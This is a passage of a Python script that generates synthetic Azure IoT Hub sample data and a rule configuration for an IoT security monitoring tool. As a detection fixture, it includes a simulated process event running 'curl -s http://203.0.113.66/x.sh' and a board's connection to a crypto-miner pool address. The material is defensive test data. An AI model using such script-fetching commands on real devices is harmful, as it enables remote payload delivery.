            [a.connection("In", "2001:db8:0:7::15", "50002", local_port="2323")],
        ),
    )

    # Deliberately bad: a message whose envelope names no device (an agent configured without
    # its identity).
    stray = Agent("unknown", rng, "bare", "T", False, 0)
    message = orjson.loads(
        stray.line([stray.event("Heartbeat", "Periodic", at(10, 30, 1), [], "Operational")])
    )
    del message["DeviceId"]
    tl.add(at(10, 30, 2), dumps(message))
    return tl.data()


def _sysinfo(agent: Agent) -> dict[str, Any]:
    return {
        "OSName": "Linux",
        "OSVersion": "Debian GNU/Linux 12 (bookworm)",
        "OsArchitecture": "armv7l" if agent.device.startswith("lab") else "x86_64",
        "HostName": agent.device,
        "TotalPhysicalMemoryInKB": 1_024_000,
        "FreePhysicalMemoryInKB": agent.rng.randint(300_000, 700_000),
        "IpAddress": agent.address,
    }


def _ports(agent: Agent) -> list[dict[str, Any]]:
    ports = [("tcp", "22", "/usr/sbin/sshd")]
    if agent.device == GATEWAY:
        ports += [("tcp", "443", "/usr/bin/docker-proxy"), ("tcp", "5671", "/usr/bin/docker-proxy")]
    return [
        {
            "Protocol": proto,
            "LocalAddress": "0.0.0.0",
            "LocalPort": port,
            "RemoteAddress": "*",
            "RemotePort": "*",
            "Executable": exe,
        }
        for proto, port, exe in ports
    ]


def _firewall() -> list[dict[str, Any]]:
    return [
        {
            "Enabled": True,
            "Direction": "In",
            "Action": "Allow",
            "Priority": "1",
            "DestinationPort": "22",
            "Protocol": "tcp",
            "SourceAddress": "10.0.0.0/24",
        },
        {"Enabled": True, "Direction": "In", "Action": "Deny", "Priority": "100", "Protocol": "*"},
    ]


# --- configuration ---------------------------------------------------------------------------------

CONFIG = """\
# iotwatch configuration for the sample bench session (sample_data/README.md tells the story).
# Generated by sample_data/generate.py: edit the generator, not this file.

[engine]
lateness = "PT1M"            # a window is judged a minute after its end...
horizon = "P1D"              # ...and amended by anything of the device that arrives within a day
quiet = "PT10M"
# The hub, as Azure names it: the ResourceId of `iotwatch export --format securityalert`.
hub = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/bench-lab/providers/Microsoft.Devices/IotHubs/bench-hub"

# The serial board, when the session runs live. Its console says what it sends to the hub, but
# the hub side of its traffic is already in hub-events.jsonl: its console lines are shown and
# stored, not counted (a replay of board-1.capture reads them with these patterns: none).
[[sources]]
type = "serial"
port = "/dev/serial/by-id/usb-Bench_Board_1-if00"
device = "bench-board-1"
builtin_patterns = false

[devices]
"sensor-12" = "default"      # on the bench but never powered: declared, so its silence shows
"gateway-1" = "lab"
"lab-*" = "lab"
"bench-board-*" = "lab"

# --- default: the MQTT sensors -------------------------------------------------------------------

[groups.default.rules.MqttD2CMessagesNotInAllowedRange]
min = 5                      # a reading a minute: fewer than 5 in 15 minutes is a dead sensor
max = 40
window = "PT15M"

[groups.default.rules.MqttC2DMessagesNotInAllowedRange]
max = 4
window = "PT15M"

[groups.default.rules.MqttC2DRejectedMessagesNotInAllowedRange]
max = 2
window = "PT15M"

[groups.default.rules.TwinUpdatesNotInAllowedRange]
max = 8
window = "PT30M"

[groups.default.rules.UnauthorizedOperationsNotInAllowedRange]
max = 3
window = "PT15M"
severity = "Medium"

[groups.default.rules.QueuePurgesNotInAllowedRange]
max = 1
window = "PT1H"

[groups.default.rules.ActiveConnectionsNotInAllowedRange]
max = 60
window = "PT15M"

[groups.default.rules.ConnectionToIpNotAllowed]
allow = ["10.0.0.0/8", "198.51.100.0/24"]

[groups.default.rules.ConnectionFromIpNotAllowed]
allow = ["10.0.0.0/8"]

[groups.default.rules.LocalUserNotAllowed]
allow = ["operator"]

[groups.default.rules.ProcessNotAllowed]
allow = ["/usr/bin/sensord", "busybox"]

# --- lab: Linux lab devices, the IoT Edge gateway and the serial board ----------------------------

[groups.lab.rules.AmqpD2CMessagesNotInAllowedRange]
max = 300
window = "PT15M"

[groups.lab.rules.HttpD2CMessagesNotInAllowedRange]
max = 30
window = "PT15M"

[groups.lab.rules.AmqpC2DMessagesNotInAllowedRange]
max = 10
window = "PT15M"

[groups.lab.rules.HttpC2DMessagesNotInAllowedRange]
max = 4
window = "PT15M"

[groups.lab.rules.AmqpC2DRejectedMessagesNotInAllowedRange]
max = 2
window = "PT15M"

[groups.lab.rules.HttpC2DRejectedMessagesNotInAllowedRange]
max = 1
window = "PT15M"

[groups.lab.rules.DirectMethodInvokesNotInAllowedRange]
max = 4
window = "PT15M"

[groups.lab.rules.FileUploadsNotInAllowedRange]
max = 3
window = "PT30M"

[groups.lab.rules.QueuePurgesNotInAllowedRange]
max = 1
window = "PT1H"

[groups.lab.rules.TwinUpdatesNotInAllowedRange]
max = 10
window = "PT15M"

[groups.lab.rules.UnauthorizedOperationsNotInAllowedRange]
max = 5
window = "PT15M"

[groups.lab.rules.ActiveConnectionsNotInAllowedRange]
max = 450                    # the serial board alone opens about 360 in 15 minutes
window = "PT15M"

[groups.lab.rules.FailedLocalLoginsNotInAllowedRange]
max = 5
window = "PT15M"

[groups.lab.rules.ConnectionToIpNotAllowed]
allow = ["10.0.0.0/8", "198.51.100.0/24", "2001:db8:100::/48"]

[groups.lab.rules.ConnectionFromIpNotAllowed]
allow = ["10.0.0.0/8"]

[groups.lab.rules.LocalUserNotAllowed]
allow = ["operator", "ci-runner"]
severity = "Medium"

[groups.lab.rules.ProcessNotAllowed]
allow = [
    "/bin/sensor-app",
    "/usr/sbin/dropbear",
    "/usr/sbin/sshd",
    "ota-agent",
    "python3",
    "iotedge",
    "dockerd",
    "containerd-shim",
]
severity = "High"
"""

# --- routed: IoT Hub message routing to storage (Avro), with security messages ------------------

RTOS_BOARD = "bench-board-2"  # an MXChip AZ3166 with the Azure RTOS security module
RTOS_ADDRESS = (10, 0, 0, 42)
MINER_POOL = (203, 0, 113, 66)  # the pool bench-board-1's miner used (see the story)
ROUTED_START = at(10, 40)
# Avro's sync marker is random unless given: a fixed one keeps the file the same on every run.
ROUTED_SYNC = bytes(range(0xA0, 0xB0))


def routed_time(us: int) -> str:
    """Routing's EnqueuedTimeUtc: seven fractional digits."""
    return utc(us).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"


def routed(
    t: int, device: str, body: bytes | None, props: dict[str, str], system: dict[str, str]
) -> dict[str, Any]:
    """One routed message as the storage endpoint writes it."""
    return {
        "EnqueuedTimeUtc": routed_time(t),
        "Properties": props,
        "SystemProperties": {
            "connectionDeviceId": device,
            "connectionAuthMethod": AUTH_X509 if device == RTOS_BOARD else AUTH_SAS,
            "connectionDeviceGenerationId": "638680411234567890",
            **system,
            "enqueuedTime": routed_time(t),
        },
        "Body": body,
    }


def _ipv4_word(address: tuple[int, ...]) -> int:
    """The uint32 the module stores for an IPv4 address: its bytes in network order, as the
    little-endian board reads them from memory (docs/formats.md, Addresses)."""
    return int.from_bytes(bytes(address), "little")


def _ipv6_words(text: str) -> list[int]:
    packed = ipaddress.IPv6Address(text).packed
    return [int.from_bytes(packed[i : i + 4], "little") for i in range(0, 16, 4)]


def rtos_security_message(rng: random.Random, t: int) -> bytes:
    """An Azure RTOS security module message (FlatBuffers, schema 2.3), built with the
    flatbuffers Builder and the project's flatc-generated code: the connections bench-board-2
    saw in its last collection interval, its system information and a heartbeat."""
    from engine.formats.rtos import security_message_generated as g

    b = flatbuffers.Builder(1024)

    def common(local_port: int, remote_port: int, protocol: int, sent: int, got: int) -> int:
        g.NetworkActivityCommonStart(b)
        g.NetworkActivityCommonAddLocalPort(b, local_port)
        g.NetworkActivityCommonAddRemotePort(b, remote_port)
        g.NetworkActivityCommonAddBytesIn(b, got)
        g.NetworkActivityCommonAddBytesOut(b, sent)
        g.NetworkActivityCommonAddProtocol(b, protocol)
        return g.NetworkActivityCommonEnd(b)

    def vector(start: Any, offsets: list[int]) -> int:
        start(b, len(offsets))
        for off in reversed(offsets):
            b.PrependUOffsetTRelative(off)
        return b.EndVector()

    v4 = []
    for remote, port, sent, got in (
        (tuple(int(x) for x in HUB_ADDRESS.split(".")), 8883, 5120, 1480),  # the hub: MQTT/TLS
        (MINER_POOL, 3333, 640, 212),  # the miner's pool: not on the allow-list
    ):
        com = common(rng.randint(49152, 65535), port, g.Protocol.TCP, sent, got)
        g.NetworkActivityV4Start(b)
        g.NetworkActivityV4AddAddresses(
            b, g.CreateIPv4Addresses(b, _ipv4_word(RTOS_ADDRESS), _ipv4_word(remote))
        )
        g.NetworkActivityV4AddCommon(b, com)
        v4.append(g.NetworkActivityV4End(b))
    com = common(rng.randint(49152, 65535), 123, g.Protocol.UDP, 48, 48)  # the lab's NTP server
    g.NetworkActivityV6Start(b)
    g.NetworkActivityV6AddAddresses(
        b, g.CreateIPv6Addresses(b, _ipv6_words("2001:db8:100::42"), _ipv6_words("2001:db8:100::1"))
    )
    g.NetworkActivityV6AddCommon(b, com)
    v6 = [g.NetworkActivityV6End(b)]
    ipv4, ipv6 = (
        vector(g.NetworkActivityStartIpv4ActivityVector, v4),
        vector(g.NetworkActivityStartIpv6ActivityVector, v6),
    )
    g.NetworkActivityStart(b)
    g.NetworkActivityAddIpv4Activity(b, ipv4)
    g.NetworkActivityAddIpv6Activity(b, ipv6)
    network = g.NetworkActivityEnd(b)
    os_info, kernel, hw = (b.CreateString(x) for x in ("Azure RTOS", "ThreadX 6.2.0", "AZ3166"))
    g.SystemInformationStart(b)
    g.SystemInformationAddOsInfo(b, os_info)
    g.SystemInformationAddKernelInfo(b, kernel)
    g.SystemInformationAddHwInfo(b, hw)
    sysinfo = g.SystemInformationEnd(b)
    g.HeartbeatStart(b)
    heartbeat = g.HeartbeatEnd(b)
    events = []
    for kind, payload, ago in (
        (g.Payload.NetworkActivity, network, 20),
        (g.Payload.SystemInformation, sysinfo, 15),
        (g.Payload.Heartbeat, heartbeat, 10),
    ):
        g.EventStart(b)
        g.EventAddId(b, g.CreateUUID(b, list(uuid.UUID(int=rng.getrandbits(128), version=4).bytes)))
        g.EventAddTime(b, t // US - ago)  # the board's clock: Unix seconds
        g.EventAddCollectionInterval(b, 60)
        g.EventAddPayloadType(b, kind)
        g.EventAddPayload(b, payload)
        events.append(g.EventEnd(b))
    module_id = b.CreateString("bench-board-2-asc")
    evs = vector(g.MessageStartEventsVector, events)
    g.MessageStart(b)
    g.MessageAddSecurityModuleId(b, module_id)
    g.MessageAddSecurityModuleVersion(b, (3 << 24) | (5 << 16) | 4)  # 3.5.4
    g.MessageAddEvents(b, evs)
    b.Finish(g.MessageEnd(b))
    return bytes(b.Output())


def build_routed_messages(rng: random.Random) -> bytes:
    """Ten minutes of bench-hub's messages as routing writes them to a storage endpoint (Avro):
    bench-board-2 connects, has its twin updated and sends telemetry every minute and one Azure
    RTOS FlatBuffers security message; lab-01's Linux agent sends one JSON security message."""
    json_utf8 = {"contentType": "application/json", "contentEncoding": "utf-8"}
    records: list[tuple[int, dict[str, Any]]] = []
    # IoT Hub's own notifications ("Azure IoT Hub non-telemetry event schemas").
    for t, source, schema, op, body in (
        (
            ROUTED_START + 2_113_000,
            "deviceConnectionStateEvents",
            "deviceConnectionStateNotification",
            "deviceConnected",
            {"sequenceNumber": "000000000000000001D941B7C6F2A10A0000000200000000000000000000001B"},
        ),
        (
            ROUTED_START + 95_402_000,
            "twinChangeEvents",
            "twinChangeNotification",
            "updateTwin",
            {"version": 4, "properties": {"desired": {"telemetryInterval": 60, "$version": 3}}},
        ),
    ):
        props = {
            "hubName": "bench-hub",
            "deviceId": RTOS_BOARD,
            "opType": op,
            "iothub-message-schema": schema,
            "operationTimestamp": routed_time(t - 1_000),
        }
        system = {**json_utf8, "iothub-message-source": source, "correlationId": new_uuid(rng)}
        rec = routed(t, RTOS_BOARD, dumps(body), props, system)
        del rec["SystemProperties"]["connectionAuthMethod"]  # not a device's message
        records.append((t, rec))
    # Telemetry as the getting-started firmware sends it, once a minute.
    for t in every(ROUTED_START + 30 * US, ROUTED_START + 10 * MINUTE, MINUTE):
        t += rng.randrange(0, 900_000)
        body = {
            "temperature": round(rng.uniform(26.0, 29.0), 2),
            "humidity": round(rng.uniform(38.0, 44.0), 2),
            "pressure": round(rng.uniform(1008.0, 1012.0), 2),
        }
        records.append((t, routed(t, RTOS_BOARD, dumps(body), {}, dict(json_utf8))))
    # The security module's message: properties mti and $.ifid, a binary body.
    t = ROUTED_START + 5 * MINUTE + 12_345_000
    props = {"mti": "2.3-1-0-0", "$.ifid": SECURITY_INTERFACE}
    records.append((t, routed(t, RTOS_BOARD, rtos_security_message(rng, t), props, {})))
    # lab-01's Linux agent: a JSON security message, the interface id as iothub-interface-id.
    agent = Agent("lab-01", rng, "bare", "T", False, 1)
    t = ROUTED_START + 6 * MINUTE + 40_000_000
    events = [
        agent.event(
            "ProcessCreate",
            "Triggered",
            t - 30 * US,
            [agent.process("/usr/bin/curl", "curl -s http://203.0.113.66/x.sh", "operator")],
        ),
        agent.event(
            "Login", "Triggered", t - 40 * US, [agent.login("operator", "Success", JUMP_HOST)]
        ),
    ]
    body = orjson.loads(agent.line(events))
    del body["DeviceId"]  # the envelope is the routed message: its device is connectionDeviceId
    props = {"iothub-interface-id": SECURITY_INTERFACE}
    records.append((t, routed(t, "lab-01", dumps(body), props, dict(json_utf8))))
    out = io.BytesIO()
    fastavro.writer(
        out,
        fastavro.parse_schema(ROUTING_SCHEMA),
        [rec for _, rec in sorted(records, key=lambda r: r[0])],
        sync_marker=ROUTED_SYNC,
    )
    return out.getvalue()


def routed_messages() -> bytes:
    """The bytes of ``routed/bench-hub-messages.avro``."""
    return build_routed_messages(random.Random(f"{SEED}:routed"))


# The inputs live in their own folder so that ``iotwatch replay session/*`` takes them all;
# the capture is recognised by its NUL bytes.
SESSION = "session"
# Replayed on its own, not with session/* (see README.md, "Routed messages").
ROUTED = "routed/bench-hub-messages.avro"
INPUTS = [
    f"{SESSION}/hub-log.json",
    f"{SESSION}/hub-log-eventhub.json",
    f"{SESSION}/hub-events.jsonl",
    f"{SESSION}/security-messages.jsonl",
    f"{SESSION}/board-1.capture",
]


def write(path: Path, data: bytes, report: bool = True) -> None:
    path.write_bytes(data)
    if report:
        print(f"{path.name:28} {len(data):>9,} bytes", file=sys.stderr)


def generate(out: Path, report: bool = True) -> None:
    session = out / SESSION
    session.mkdir(parents=True, exist_ok=True)
    storage, eventhub = build_hub_log(random.Random(f"{SEED}:hub-log"))
    write(session / "hub-log.json", storage, report)
    write(session / "hub-log-eventhub.json", eventhub, report)
    write(
        session / "hub-events.jsonl", build_hub_events(random.Random(f"{SEED}:hub-events")), report
    )
    write(
        session / "security-messages.jsonl",
        build_security_messages(random.Random(f"{SEED}:security-messages")),
        report,
    )
    board = session / "board-1.capture"
    write(
        board,
        capture(BOARD_SEED, BOARD_START, BOARD_SECONDS, BOARD, clock="rtc", faults=True),
        report,
    )
    # Replay takes a capture's mtime as the host's receive time: the end of the capture.
    end = (BOARD_START + BOARD_SECONDS * US) / US
    os.utime(board, (end, end))
    routed = out / ROUTED
    routed.parent.mkdir(parents=True, exist_ok=True)
    write(routed, routed_messages(), report)
    write(out / "iotwatch.toml", CONFIG.encode(), report)


def run_cli(out: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), env.get("PYTHONPATH")]))
    result = subprocess.run(
        [sys.executable, "-m", "tui.cli", *args], cwd=out, env=env, capture_output=True
    )
    if result.returncode != 0:
        reason = result.stderr.decode(errors="replace").strip()
        raise SystemExit(f"iotwatch {' '.join(args)}: exit status {result.returncode}: {reason}")
    return result


def expected(out: Path, report: bool = True) -> None:
    groups = run_cli(out, "groups", "export", "--config", "iotwatch.toml")
    write(out / "azure-groups.json", groups.stdout, report)
    result = run_cli(out, "replay", "--config", "iotwatch.toml", *INPUTS)
    write(out / "expected-alerts.jsonl", result.stdout, report)
    write(out / "expected-summary.txt", result.stderr, report)


def check(folder: Path, data_only: bool) -> int:
    """Regenerate into a temporary folder and compare with ``folder``; 1 when anything differs."""
    with tempfile.TemporaryDirectory() as tmp:
        fresh = Path(tmp)
        generate(fresh, report=False)
        if not data_only:
            expected(fresh, report=False)
        differ = [
            str(p.relative_to(fresh))
            for p in sorted(fresh.rglob("*"))
            if p.is_file()
            and (
                not (folder / p.relative_to(fresh)).is_file()
                or (folder / p.relative_to(fresh)).read_bytes() != p.read_bytes()
            )
        ]
    for name in differ:
        print(f"differs: {name}", file=sys.stderr)
    return 1 if differ else 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", default=str(Path(__file__).resolve().parent), help="output folder")
    parser.add_argument(
        "--data-only", action="store_true", help="write the inputs only, do not run iotwatch"
    )
    parser.add_argument(
        "--check",
        action="store_true",
        help="write nothing; exit 1 if regenerating would change a file in the output folder",
    )
    args = parser.parse_args(argv)
    out = Path(args.out)
    if args.check:
        return check(out, args.data_only)
    generate(out)
    if not args.data_only:
        expected(out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
